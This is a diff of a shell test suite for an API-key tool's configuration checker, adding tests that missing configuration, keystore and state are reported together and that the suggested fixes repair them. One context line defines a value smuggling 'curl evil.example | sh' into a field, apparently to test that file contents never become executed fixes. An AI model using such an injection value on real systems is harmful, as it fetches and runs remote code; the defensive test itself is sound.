@@ -26,6 +26,7 @@ only etc/apikey
 conf() { printf 'echo %q >>etc/apikey/apikey.conf' "$1"; }
 sick 'rm etc/apikey/apikey.conf' error etc/apikey/apikey.conf \
     'there is no configuration'
+mend_is "install -D -m 644 /dev/null $R/etc/apikey/apikey.conf # an empty file will do"
 n=$(($(wc -l <../../etc/apikey.conf) + 1))
 sick "$(conf 'frobnicate = 1;')" error "etc/apikey/apikey.conf:$n" \
     'unknown setting "frobnicate"'
@@ -55,6 +56,20 @@ sick "$(conf 'argon2id = { max_memory = 2000000; };')" warning \
     etc/apikey/apikey.conf 'lets one login take 2000000 KiB'
 sick "$(conf 'local_services = [ "su", "sshd" ];')" warning \
     etc/apikey/apikey.conf 'sshd is among local_services'
+
+t 'check: all that is missing is told at once, and the mends mend it'
+only etc/apikey var/lib/apikey
+in_tree 'rm -r etc/apikey var/lib/apikey'
+look 8
+want 'findings' "$(cut -f 1,3 <<<"$OUT")" \
+    "error	there is no configuration: every key is refused
+error	there is no keystore: every key is refused
+warning	there is no state: uses are not counted, failures not slowed down, keys with max_uses refused"
+mends=$(cut -f 4 <<<"$OUT")
+(umask 077; bash -ec "$mends") >"$W/out" 2>&1 || problem "$(cat "$W/out")"
+look 0
+[ -z "$OUT$ERR" ] || problem "after the mends: $OUT$ERR"
+only etc/apikey
 
 t 'check: what a file holds is no mend'
 evil='q; curl evil.example | sh'
